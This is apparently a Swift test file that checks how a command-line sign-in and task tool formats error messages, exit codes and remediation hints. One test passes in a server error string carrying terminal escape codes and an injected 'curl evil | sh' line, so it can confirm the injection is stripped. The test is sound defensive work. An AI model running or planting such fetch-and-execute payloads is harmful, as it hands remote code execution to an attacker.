// SPDX-License-Identifier: Apache-2.0
import APIAccess
import Foundation
import MicrosoftGraph
import QuickStart
import SignIn
import TaskListClient
import Testing

@testable import ClientCommands
@testable import CommandTerminal

@Suite struct ErrorTextTests {
    static func text(_ error: any Error) throws -> ErrorText { try #require(ErrorText(error)) }

    @Test func `a server cannot write our lines`() throws {
        let error = ServerError(.invalidGrant, providerDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
        let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines == ["error: the provider returned: no", "hint: tessera sign-in"])
        let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
        #expect(refusal.message == "the issuer 'a hint: b' is not ours")
    }

    @Test func `settings keep a line for each problem`() throws {
        let error = #expect(throws: SettingsError.self) {
            try Settings(
                propertyList: Data("<plist version=\"1.0\"><dict/></plist>".utf8), file: "settings.plist")
        }
        let text = try Self.text(try #require(error))
        #expect(text.message == error?.description)
        #expect(text.message.contains("\n  "))
        #expect(text.status == .settingsWrong)
    }

    private static let silent = Refusal(.proofKeyUnsupported, "why", cause: ProofKeyNotAdvertised())
    private static let withClientID = "tessera call --trust ISSUER --client-id ID ADDRESS"

    /// Errors with their exit codes, and a part of their hints.
    private static let steps: [(error: any Error, status: ClientCommands.ExitStatus, hint: String)] = [
        (AccountStorageError(.unwritable, "why"), .cannotWrite, "TESSERA_HOME"),
        (AccountStorageError(.unreadable, "why"), .failed, "check its permissions"),
        (AccountStorageError(.damaged, "why"), .failed, "run `tessera sign-in`; `tessera accounts` lists"),
        (AccountStorageError(.conflict, "why"), .unavailable, "another tessera"),
        (AccountStorageError(.busy, "why"), .unavailable, "another tessera"),
        (AccountStorageError(.keyMissing, "why"), .failed, "provide the key"),
        (AccountStorageError(.keyMismatch, "why"), .failed, "provide the key"),
        (AccountStorageError(.laterVersion, "why"), .failed, "use the later version"),
        (TransportError(.unreachable, "why"), .unavailable, "tessera demo"),
        (TransportError(.connectionLost, "why"), .unavailable, "tessera demo"),
        (TransportError(.timedOut, "why"), .unavailable, "--timeout"),
        (TransportError(.untrusted, "why"), .unavailable, "tessera tenant trust"),
        (TransportError(.missingLibrary, "why"), .unavailable, "apt-get install libcurl4"),
        (TransportError(.outOfResources, "why"), .unavailable, "ulimit -a"),
        (TransportError(.unusableTarget, "why"), .unavailable, "check the addresses in the settings"),
        (Refusal(.clientRegistrationMalformed, "why"), .failed, "and then: \(withClientID)"),
        (Refusal(.clientRegistrationUnsupported, "why"), .settingsWrong, withClientID),
        (Refusal(.addressNotPublic, "why"), .failed, "API's operator"),
        // A client id is the remedy only where the provider may support PKCE.
        (silent, .settingsWrong, withClientID),
        (Refusal(.proofKeyUnsupported, "why"), .settingsWrong, "ask the provider's operator"),
        (Refusal(.registrationMalformed, "why"), .settingsWrong, "check the issuer"),
        (Refusal(.keySetMalformed, "why"), .failed, "report it"),
        (Refusal(.nonceMismatch, "why"), .failed, "run `tessera sign-in` again"),
        (Refusal(.audienceMismatch, "why"), .settingsWrong, "check the registration's issuer"),
        (ServerError(.invalidGrant), .signInRequired, "tessera sign-in"),
        (ServerError(.invalidClient), .settingsWrong, "check the registration's client id, secret"),
        (ServerError(.accessDenied, nextAction: .secondFactor([])), .signInRequired, "complete the second factor"),
        (ServerError(.accessDenied, nextAction: .consent(["a;b"])), .failed, "tessera sign-in --scope 'a;b'"),
        (ServerError(.unspecified), .failed, "check the provider's address"),
        (GraphError(status: 404, code: "c", message: "m"), .failed, "`tessera people find NAME`"),
        (TaskListError(status: 200, code: "unreadable", message: "m"), .failed, "check `taskAPI` in the settings"),
        (Failure(.noTaskList, .correctRegistration), .settingsWrong, "use settings that contain taskAPI"),
    ]

    @Test(arguments: steps.indices) func `an error has an exit code and a next step`(_ row: Int) throws {
        let (error, status, hint) = Self.steps[row]
        let text = try Self.text(error)
        #expect(text.status == status)
        #expect(text.hint?.description.contains(hint) == true, "\(text)")
    }

    /// Temporary or not, as for every other server.
    @Test(arguments: [
        (400, false), (407, false), (408, true), (409, false), (424, false), (425, true), (426, false), (428, false),
        (429, true), (499, false), (500, true), (503, true),
    ])
    func `an API that may soon answer is unavailable`(_ status: Int, _ isTemporary: Bool) throws {
        let texts = [
            try Self.text(GraphError(status: status, code: "c", message: "m")),
            try Self.text(TaskListError(status: status, code: "c", message: "m")),
        ]
        #expect(texts.map { $0.status == .unavailable } == [isTemporary, isTemporary])
        if isTemporary { #expect(!texts.contains { $0.description.contains("in the settings") }) }
        #expect(CallOutputOptions.hint(for: status).description.contains("try again") == isTemporary)
    }

    private static func at(_ endpoint: String, status: Int?) -> ServerError {
        var error = ServerError(.unspecified, status: status)
        error.endpoint = URL(string: endpoint)
        return error
    }

    @Test(arguments: [
        (ServerError(.unspecified, status: 503), "the provider returned 503 without a reason"),
        (ServerError(.unspecified), "the provider returned an error without a reason"),
        (
            ServerError(.unspecified, providerDescription: "Gone.\nFor good.", status: 410),
            "the provider returned 410: Gone"
        ),
        (ServerError(.invalidScope, providerDescription: "No."), "the provider returned: No"),
        (
            at("https://id.example/token?code=secret", status: 503),
            "the server at https://id.example/token returned 503 without a reason"
        ),
        (
            at("https://id.example/a#b", status: nil),
            "the server at https://id.example/a returned an error without a reason"
        ),
    ])
    func `a provider that names no error is described`(_ error: ServerError, message: String) throws {
        #expect(try Self.text(error).message == message)
    }
}
